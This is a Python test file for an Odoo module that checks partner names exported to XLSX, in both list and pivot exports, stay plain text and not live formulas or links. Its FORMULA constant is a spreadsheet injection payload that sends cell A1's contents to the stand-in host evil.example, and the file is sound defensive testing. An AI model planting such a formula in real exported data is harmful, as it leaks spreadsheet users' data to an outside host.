import io
import json

import openpyxl

from odoo import http
from odoo.tests import HttpCase, tagged

from .access import create_user

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@tagged("post_install", "-at_install")
class TestExportText(HttpCase):
    """What a channel sent stays a text when an accountant exports it (attack 11)."""

    def setUp(self):
        super().setUp()
        create_user(self.env, "administrator", login="exporter")
        self.env.ref("base.group_allow_export").user_ids += self.env["res.users"].search(
            [("login", "=", "exporter")]
        )
        self.authenticate("exporter", "exporter")

    def _post(self, path, content):
        token = {"csrf_token": http.Request.csrf_token(self), "data": json.dumps(content)}
        answer = self.url_open(path, data=token)
        self.assertEqual(answer.status_code, 200, answer.text[:500])
        return openpyxl.load_workbook(io.BytesIO(answer.content)).active

    def _assert_no_formula(self, sheet):
        cells = [cell for row in sheet.iter_rows() for cell in row]
        found = [cell for cell in cells if FORMULA in str(cell.value)]
        self.assertEqual([cell.data_type for cell in found], ["s"])
        self.assertFalse([cell for cell in cells if cell.hyperlink])

    def test_a_name_that_looks_like_a_formula_is_none_in_a_list(self):
        partner = self.env["res.partner"].create({"name": FORMULA})
        sheet = self._post(
            "/web/export/xlsx",
            {
                "model": "res.partner",
                "fields": [{"name": "name", "label": "Name", "type": "char"}],
                "ids": partner.ids,
                "domain": [],
                "import_compat": False,
                "context": {},
            },
        )
        self._assert_no_formula(sheet)

    def test_nor_in_a_pivot_table(self):
        sheet = self._post(
            "/web/pivot/export_xlsx",
            {
                "model": "res.partner",
                "title": "Customers",
                "col_group_headers": [[{"title": "Total", "width": 1, "height": 1}]],
                "measure_headers": [{"title": "Count", "is_bold": False}],
                "rows": [{"title": FORMULA, "indent": 0, "values": [{"value": 1}]}],
                "measure_count": 1,
            },
        )
        self._assert_no_formula(sheet)
